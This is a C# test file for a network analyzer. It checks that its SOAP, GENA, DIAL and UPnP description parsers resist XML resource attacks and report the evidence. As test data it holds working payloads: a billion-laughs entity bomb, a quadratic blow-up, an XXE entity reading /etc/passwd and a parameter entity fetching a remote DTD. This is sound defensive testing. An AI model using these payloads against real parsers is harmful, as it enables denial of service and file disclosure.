using System.Text;
using Analyzer.Decoding.Description;
using Analyzer.Decoding.Dial;
using Analyzer.Decoding.Gena;
using Analyzer.Decoding.Http;
using Analyzer.Decoding.Soap;
using Analyzer.Events;
using Analyzer.Pipeline;
using Analyzer.Tests.Support;

namespace Analyzer.Tests.Robustness;

/// <summary>
/// XML bodies built to exhaust the parsers: a SOAP body nested 100,000 deep, the "billion laughs" entity bomb, a
/// quadratic blow-up and an external entity. Every XML reader stops at <see cref="SafeXml.MaxDepth"/>, expands no
/// entity and resolves nothing; the evidence is reported, the memory and time spent stay small.
/// </summary>
[Collection(ResourceAttackCollection.Name)]
public class XmlResourceAttackTests
{
    private const int Depth = 100_000;
    /// <summary>Bytes one parse may allocate: a copy of the body and the reader's buffers, never an expansion.</summary>
    private const long ParseAllocationBudget = 8L * 1024 * 1024;

    private const string XmlDeclaration = "<?xml version=\"1.0\"?>";

    /// <summary>Ten levels of ten references: 10^9 "lol"s (3 GB) if expanded.</summary>
    public static string BillionLaughsDoctype(string root)
    {
        var dtd = new StringBuilder($"<!DOCTYPE {root} [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++)
            dtd.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">");
        return dtd.Append("]>").ToString();
    }

    /// <summary>A body each parser accepts, with <paramref name="inner"/> inside a text field and a DOCTYPE first.</summary>
    public static byte[] Body(string parser, string doctype, string inner) => Encoding.ASCII.GetBytes(XmlDeclaration + doctype + parser switch
    {
        "soap" => "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>" +
            "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewPortMappingDescription>" + inner +
            "</NewPortMappingDescription></u:AddPortMapping></s:Body></s:Envelope>",
        "gena" => "<e:propertyset xmlns:e=\"urn:schemas-upnp-org:event-1-0\"><e:property><Status>" + inner + "</Status></e:property></e:propertyset>",
        "dial" => "<service xmlns=\"urn:dial-multiscreen-org:schemas:dial\"><name>YouTube</name><state>running</state><additionalData>" + inner +
            "</additionalData></service>",
        _ => "<root xmlns=\"urn:schemas-upnp-org:device-1-0\"><device><deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>" +
            "<friendlyName>" + inner + "</friendlyName></device></root>",
    });

    private static readonly string Nested = string.Concat(Enumerable.Repeat("<a>", Depth)) + string.Concat(Enumerable.Repeat("</a>", Depth));

    public static TheoryData<string, string, string> Bombs => new()
    {
        { "billion laughs", BillionLaughsDoctype("x"), "&lol9;" },
        // One 50,000-character entity referenced 10,000 times: 500 MB if expanded.
        { "quadratic blow-up", $"<!DOCTYPE x [<!ENTITY a \"{new string('a', 50_000)}\">]>", string.Concat(Enumerable.Repeat("&a;", 10_000)) },
        { "external entity", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "&xxe;" },
        { "parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://203.0.113.7/x.dtd\"> %p;]>", "x" },
    };

    /// <summary>Every XML body parser of the sensor, by name, with the text it kept from the field.</summary>
    public static readonly Dictionary<string, Func<byte[], (XmlEvidence Evidence, string Text)>> Parsers = new()
    {
        ["soap"] = body =>
        {
            var envelope = SoapEnvelopeParser.Parse(body);
            return (envelope.Evidence, envelope.Argument("NewPortMappingDescription") ?? "");
        },
        ["gena"] = body =>
        {
            var properties = GenaPropertySetParser.Parse(body, out _, out var e);
            return (e, string.Concat(properties.Select(p => p.Value)));
        },
        ["dial"] = body =>
        {
            var status = DialAppStatusParser.Parse(body, out var e);
            return (e, status?.ToString() ?? "");
        },
        ["description"] = body =>
        {
            var d = DeviceDescriptionParser.Parse(body);
            return (d?.Evidence ?? throw new InvalidOperationException("not read as a description"), d.Root?.FriendlyName ?? "");
        },
    };

    public static TheoryData<string> ParserNames => [.. Parsers.Keys];

    [Theory]
    [MemberData(nameof(ParserNames))]
    public void ABodyNestedAHundredThousandDeepStopsAtTheDepthCap(string parser)
    {
        var body = Body(parser, "", Nested);
        long allocatedBefore = GC.GetAllocatedBytesForCurrentThread();

        var (evidence, _) = Parsers[parser](body);

        long allocated = GC.GetAllocatedBytesForCurrentThread() - allocatedBefore;
        Assert.True(allocated < ParseAllocationBudget, $"{allocated / 1024} KB allocated");
        Assert.True(evidence.TooDeep);
    }

    [Theory]
    [MemberData(nameof(Bombs))]
    public void AnEntityBombIsReportedAndNeverExpanded(string bomb, string doctype, string inner)
    {
        foreach (var (name, parse) in Parsers)
        {
            var body = Body(name, doctype, inner);
            long allocatedBefore = GC.GetAllocatedBytesForCurrentThread();

            var (evidence, text) = parse(body);

            long allocated = GC.GetAllocatedBytesForCurrentThread() - allocatedBefore;
            Assert.True(allocated < ParseAllocationBudget, $"{bomb}, {name}: {allocated / 1024} KB allocated");
            Assert.True(evidence.Doctype, $"{bomb}, {name}: DOCTYPE not reported");
            Assert.True(evidence.Entity, $"{bomb}, {name}: ENTITY not reported");
            Assert.DoesNotContain("lollol", text);
            Assert.DoesNotContain("aaaaaaaaaa", text);
            Assert.DoesNotContain("root:", text);
        }
    }

    [Fact]
    public void ANestedBodyAndAnEntityBombThroughThePipelineAreReportedWithoutAnException()
    {
        using var dir = new TempDir();
        var events = new EventList();
        using var pipeline = new AnalyzerPipeline(new PipelineSettings { AlertsPath = dir.File("alerts.csv") });
        pipeline.AddObserver(events);
        var ok = "HTTP/1.1 200 OK\r\nCONTENT-LENGTH: 0\r\n\r\n"u8.ToArray();
        long before = ManagedMemory.Live();

        foreach (var body in new[] { Body("soap", "", Nested), Body("soap", BillionLaughsDoctype("s:Envelope"), "&lol9;") })
        {
            var head = Encoding.ASCII.GetBytes(
                "POST /upnp/control/WANIPConn1 HTTP/1.1\r\nHOST: 192.168.1.1:5000\r\nCONTENT-TYPE: text/xml\r\n" +
                "SOAPACTION: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\r\n" +
                $"CONTENT-LENGTH: {body.Length}\r\n\r\n");
            new TcpFeeder(pipeline, clientPort: (ushort)(40000 + body.Length % 1000)).Handshake().Request([.. head, .. body]).Response(ok);
        }
        pipeline.Finish();
        long growth = ManagedMemory.Live() - before;

        Assert.False(pipeline.Statistics.AnomaliesById.ContainsKey("decode.exception"));
        Assert.True(growth < 32L * 1024 * 1024, $"managed memory grew by {growth / 1048576} MB");
        var requests = events.Events.OfType<SoapRequest>().ToList();
        Assert.Equal(2, requests.Count);
        Assert.True(requests[0].Evidence.TooDeep);
        Assert.True(requests[0].BodyTruncated);
        Assert.True(requests[1].Evidence.Doctype && requests[1].Evidence.Entity);
        Assert.Contains(requests[1].Fields(), f => f.Key == "entity" && f.Value == "1");
    }
}
